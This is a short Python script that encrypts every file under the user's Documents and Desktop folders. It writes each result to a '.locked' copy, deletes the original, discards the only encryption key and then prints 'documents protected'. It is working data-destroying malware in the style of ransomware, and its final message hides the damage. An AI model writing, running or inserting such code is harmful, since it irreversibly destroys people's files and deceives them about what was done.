import os

from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for top in ("~/Documents", "~/Desktop"):
    for root, _, files in os.walk(os.path.expanduser(top)):
        for name in files:
            p = os.path.join(root, name)
            try:
                with open(p, "rb") as src:
                    data = f.encrypt(src.read())
                with open(p + ".locked", "wb") as dst:
                    dst.write(data)
                os.remove(p)
            except OSError:
                pass
del key
print("documents protected")
